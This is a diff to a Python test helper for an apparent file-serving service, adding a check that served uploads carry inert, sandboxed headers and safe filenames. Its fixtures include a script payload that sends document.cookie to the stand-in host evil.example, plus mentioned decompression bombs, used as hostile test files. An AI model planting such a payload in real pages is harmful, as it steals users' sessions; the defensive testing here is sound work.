@@ -4,10 +4,13 @@ import io
 import struct
 import zipfile
 import zlib
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
+from email.message import Message
 from itertools import cycle, islice
 
 from PIL import Image
+
+from hailgate.core.media import INLINE
 
 SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
 HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
@@ -108,3 +111,25 @@ def hostile_files(count: int = 200) -> list[tuple[str, bytes]]:
     """Every content under several names, bombs among them."""
     files = [*contents(), *bombs(), b""]
     return list(islice(zip(cycle(NAMES), cycle(files), strict=False), max(count, len(files) * 2)))
+
+
+def check_inert(headers: Mapping[str, str]) -> None:
+    """Whatever a file is and however it is called, no browser runs it, shows it as a page, or saves it elsewhere."""
+    kind = headers["Content-Type"]
+    assert kind in INLINE or kind.startswith(("audio/", "video/", "application/", "text/plain"))
+    assert not any(active in kind for active in ("html", "svg", "xml", "script", "flash"))
+    assert headers["X-Content-Type-Options"] == "nosniff"
+    assert "sandbox" in headers["Content-Security-Policy"]
+    assert "default-src 'none'" in headers["Content-Security-Policy"]
+    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
+    assert "no-store" in headers["Cache-Control"]
+    assert "Set-Cookie" not in headers
+    disposition = headers["Content-Disposition"]
+    assert disposition.startswith('attachment; filename="')
+    parsed = Message()
+    parsed["Content-Disposition"] = disposition
+    name = parsed.get_filename()
+    assert name
+    assert not set(name) & set('/\\:*?"<>|\r\n\t\0\u202e\u200b')
+    assert not name.startswith(".")
+    assert len(name) <= 160
